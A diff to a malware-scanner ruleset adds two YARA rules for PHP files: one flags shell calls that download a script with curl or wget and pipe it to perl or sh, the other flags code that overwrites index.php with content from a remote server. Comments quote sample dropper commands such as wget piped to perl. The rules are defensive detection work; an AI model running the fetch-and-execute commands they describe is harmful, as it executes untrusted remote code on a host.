@@ -745,6 +745,40 @@ rule mamori_php_shell_fetch_php {
     any of them
 }
 
+rule mamori_php_shell_fetch_run {
+  meta:
+    score = 80
+    technique = "dropper"
+    description = "a shell command that downloads a script and runs it (wget or curl piped to perl or sh, or saved and run): the script is whatever that server sends"
+  strings:
+    // (in a literal handed to a command function, or in backticks; held-out set H14: system("wget -O - host/x |perl"),
+    // system("wget -O /tmp/b host/b; perl /tmp/b"))
+    $pipe = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s*\(\s*["'][^"'\n]{0,200}\b(curl|wget|lwp-download|fetch)\b[^"'\n|;&]{0,300}\|\s*(sudo\s+)?(perl|sh|bash|dash|zsh|ksh|python[23]?|php|ruby)\b/ nocase
+    $then = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s*\(\s*["'][^"'\n]{0,200}\b(curl|wget|lwp-download)\b[^"'\n]{0,300}(;|&&|\|\|)\s*(sudo\s+)?(perl|sh|bash|dash|python[23]?|php|ruby|\.\/)[^"'\n]{0,40}(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)/ nocase
+    $tick = /\x60[^\x60\n]{0,200}\b(curl|wget|lwp-download)\b[^\x60\n|;&]{0,300}\|\s*(sudo\s+)?(perl|sh|bash|dash|python[23]?|php|ruby)\b/ nocase
+    // (Composer's installer, piped to php as its instructions say, is not a dropper)
+    $composer = /getcomposer\.org\/installer/ nocase
+  condition:
+    ($pipe or $then or $tick) and not $composer
+}
+
+rule mamori_php_remote_page_writer {
+  meta:
+    score = 80
+    technique = "dropper"
+    description = "index.php written with what a server named in the file sends for this site's host name (an SEO doorway spreader: that server writes PHP that runs here)"
+  strings:
+    $srv = /\$\w{1,40}\s*=\s*["']https?:\/\/[a-z0-9.-]{3,100}\/?["']\s*;/ nocase
+    $fetch = /\b(file_get_contents|curl_exec|fopen)\s*\(\s*\$\w{1,40}/ nocase
+    $host = /\$_SERVER\s*\[\s*["'](HTTP_HOST|SERVER_NAME)["']\s*\]/
+    // (opened to write, or handed to a writer of the file's with a variable)
+    $open = /\bfopen\s*\(\s*["'](\.\/)?index\.php["']\s*,\s*["'][wax]/ nocase
+    $put = /\b\w{1,40}\s*\(\s*["'](\.\/)?index\.php["']\s*,\s*\$\w{1,40}\s*[,)]/ nocase
+    $file = /\b(fwrite|fputs|file_put_contents)\s*\(/ nocase
+  condition:
+    $srv and $fetch and $host and ($open or $put) and $file and filesize < 256KB
+}
+
 rule mamori_php_request_chmod {
   meta:
     score = 75
